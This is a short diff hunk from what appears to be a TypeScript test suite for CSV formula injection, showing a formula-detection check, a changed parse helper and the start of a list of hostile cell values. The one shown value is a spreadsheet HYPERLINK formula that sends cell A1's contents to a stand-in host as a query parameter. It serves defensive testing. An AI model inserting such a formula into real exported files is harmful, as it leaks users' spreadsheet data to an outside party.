@@ -12,7 +12,7 @@ function excelRunsFormula(cell: string): boolean {
   return /^[=+\-@]/.test(typed) && !/^[+-]?\d+(\.\d+)?$/.test(typed);
 }
 
-const readAsExcel = (csv: string) => parse<string[]>(csv, { bom: true, relax_quotes: true });
+const readAsExcel = (csv: string): string[][] => parse(csv, { bom: true });
 
 const HOSTILE = [
   '=HYPERLINK("https://example.com/?leak="&A1,"点此")',
